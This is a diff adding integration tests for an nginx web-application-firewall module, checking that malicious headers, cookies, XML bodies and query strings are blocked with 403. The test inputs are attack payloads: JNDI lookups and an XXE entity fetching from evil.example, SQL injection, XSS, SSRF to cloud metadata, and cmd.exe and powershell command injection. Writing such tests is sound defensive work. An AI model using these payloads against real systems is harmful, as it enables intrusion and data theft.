@@ -7,6 +7,7 @@ use support::{assert_config_error, echo_upstream, http_get, http_raw, http_reque
 fn waf_nginx(upstream: u16, extra: &str) -> Nginx {
     Nginx::builder()
         .var("UPSTREAM", upstream)
+        .var("PORT2", support::free_port())
         .http(&format!(
             r#"
         shield_filter on;
@@ -257,6 +258,7 @@ fn bad_filter_directives_fail_nginx_t() {
         ("shield_filter_exclude bogus=1;".to_string(), "invalid parameter"),
         ("shield_filter_allow 10.0.0.0/33;".to_string(), "invalid address"),
         ("shield_filter_limits uri=big;".to_string(), "invalid parameter"),
+        ("shield_filter_inspect_headers all X-Foo;".to_string(), "\"all\" cannot be combined with header names"),
     ];
     for (directive, expected) in cases {
         assert_config_error(&format!("{directive} {srv}"), expected);
@@ -510,4 +512,129 @@ fn inspecting_a_large_json_body_costs_at_most_three_times_its_size() {
     let mut attack = body[..body.len() - 2].to_vec();
     attack.extend_from_slice(br#"","q":"x' OR '1'='1"}"#);
     assert_eq!(http_request(nginx.port, "POST", "/x", &json, Some(&attack)).status, 403);
+}
+
+/// Every request header is inspected (but the noise ones), cookie names too; a location can
+/// narrow the list again.
+#[test]
+fn any_header_content_type_and_cookie_names_are_inspected() {
+    let up = echo_upstream();
+    let nginx = waf_nginx(
+        up.port,
+        r#"server {
+            listen 127.0.0.1:%%PORT2%%;
+            root %%HTML%%;
+            location / { shield_filter_inspect_headers User-Agent; }
+        }"#,
+    );
+    let get = |port: u16, headers: &[(&str, &str)]| http_request(port, "GET", "/index.html", headers, None).status;
+    assert_eq!(get(nginx.port, &[("X-Foo", "${jndi:ldap://evil.example/a}")]), 403, "a custom header");
+    assert_eq!(get(nginx.port, &[("X-Foo", "1' UNION SELECT password FROM users--")]), 403);
+    assert_eq!(get(nginx.port, &[("Cookie", "theme=dark; <script>alert(1)</script>=1")]), 403, "a cookie name");
+    let post =
+        |headers: &[(&str, &str)]| http_request(nginx.port, "POST", "/api/items", headers, Some(&b"a=1"[..])).status;
+    assert_eq!(post(&[("Content-Type", "application/x-www-form-urlencoded;<script>alert(1)</script>")]), 403);
+    assert_eq!(post(&[("Content-Type", "text/plain' UNION SELECT 1,2--")]), 403, "Content-Type");
+    // A browser's ordinary headers pass, noise ones included.
+    let browser = [
+        (
+            "User-Agent",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+        ),
+        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+        ("Accept-Language", "en-US,en;q=0.9"),
+        ("Accept-Encoding", "gzip, deflate, br"),
+        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""),
+        ("Sec-Fetch-Site", "same-origin"),
+        ("If-None-Match", "W/\"5e1-abc\""),
+        ("Origin", "http://localhost:3000"),
+        ("Referer", "http://localhost:3000/cart?step=2"),
+        ("X-Requested-With", "XMLHttpRequest"),
+        ("Authorization", "Basic Li4vZXRjL3Bhc3N3ZA=="),
+        ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
+    ];
+    assert_eq!(get(nginx.port, &browser), 200);
+    assert_eq!(post(&[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8")]), 200);
+    let audit = nginx.wait_log("audit.log", 5);
+    assert!(audit.contains("\"target\":\"header:x-foo\""), "{audit}");
+    assert!(audit.contains("\"target\":\"cookies_names:"), "{audit}");
+    assert!(audit.contains("\"target\":\"header:content-type\""), "{audit}");
+    assert_eq!(audit.lines().count(), 5, "the browser's headers matched nothing: {audit}");
+    // shield_filter_inspect_headers narrows the list: X-Foo is not inspected there.
+    let narrow = nginx.var_port("PORT2");
+    assert_eq!(get(narrow, &[("X-Foo", "${jndi:ldap://evil.example/a}")]), 200);
+    assert_eq!(get(narrow, &[("User-Agent", "${jndi:ldap://evil.example/a}")]), 403);
+}
+
+#[test]
+fn xml_bodies_are_inspected() {
+    let up = echo_upstream();
+    let nginx = waf_nginx(up.port, "");
+    let post =
+        |ct: &str, body: &[u8]| http_request(nginx.port, "POST", "/api/items", &[("Content-Type", ct)], Some(body));
+    let benign = br#"<?xml version="1.0"?><order id="42"><name>Jane O'Brien</name><note>Great product!</note></order>"#;
+    let r = post("application/xml", benign);
+    assert_eq!(r.status, 200);
+    assert_eq!(r.body, benign.to_vec(), "the upstream got the body intact");
+    for (ct, body) in [
+        ("application/xml", &b"<order><id>1' UNION SELECT password FROM users--</id></order>"[..]),
+        ("text/xml; charset=utf-8", br#"<order note="&lt;script&gt;alert(1)&lt;/script&gt;"/>"#),
+        ("application/soap+xml", br#"<a href="javascript:alert(1)">x</a>"#),
+        ("application/xml", br#"<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x.dtd">]><r>&x;</r>"#),
+    ] {
+        assert_eq!(post(ct, body).status, 403, "{}", String::from_utf8_lossy(body));
+    }
+    let audit = nginx.wait_log("audit.log", 4);
+    assert!(audit.contains("\"target\":\"body:id\"") && audit.contains("\"target\":\"body:note\""), "{audit}");
+}
+
+#[test]
+fn new_families_and_paranoia_2_through_nginx() {
+    let up = echo_upstream();
+    let nginx = waf_nginx(
+        up.port,
+        r#"server {
+            listen 127.0.0.1:%%PORT2%%;
+            root %%HTML%%;
+            location / { shield_filter_paranoia 2; }
+        }"#,
+    );
+    let status = |port: u16, uri: &str| http_get(port, uri).status;
+    for attack in [
+        "/index.html?url=http://169.254.169.254/latest/meta-data/",
+        "/index.html?url=http://127.0.0.1:6379/",
+        "/index.html?url=gopher://evil.example/_x",
+        "/index.html?c=cmd.exe%20/c%20whoami",
+        "/index.html?c=x%20%26%26%20dir%20c:%5C",
+        "/index.html?p=powershell%20-enc%20SQBFAFgA",
+        "/index.html?d=_$$ND_FUNC$$_function(){}()",
+        "/index.html?x=%5Cu003cscript%5Cu003ealert(1)",
+        "/index.html?next=/home;jsessionid=ABCDEF123456",
+        "/index.html?PHPSESSID=attacker",
+        "/index.html?laravel_session=eyJpdiI6IktmYw",
+    ] {
+        assert_eq!(status(nginx.port, attack), 403, "{attack}");
+    }
+    // A session-id argument from another site's page is blocked, from the site's own page not
+    // (the test client sends Host: localhost).
+    let from = |referer: &str| {
+        http_request(nginx.port, "GET", "/index.html?PHPSESSID=abc123", &[("Referer", referer)], None).status
+    };
+    assert_eq!(from("https://evil.example/phish"), 403);
+    assert_eq!(from("https://localhost.evil.example/"), 403);
+    assert_eq!(from("http://localhost/shop?page=2"), 200);
+    // Benign lookalikes pass at paranoia 1.
+    for benign in ["/index.html?url=https://example.com/", "/index.html?q=Tom+%26+Jerry", "/index.html?q=select+a+size"]
+    {
+        assert_eq!(status(nginx.port, benign), 200, "{benign}");
+    }
+    // What only a paranoia-2 rule catches: passes at 1, blocked at 2.
+    for pl2 in [
+        "/index.html?q=select%20password%20from%20users",
+        "/index.html?url=http://10.0.0.5/admin",
+        "/index.html?u=http://93.184.216.34/shell.txt",
+    ] {
+        assert_eq!(status(nginx.port, pl2), 200, "PL1 {pl2}");
+        assert_eq!(status(nginx.var_port("PORT2"), pl2), 403, "PL2 {pl2}");
+    }
 }
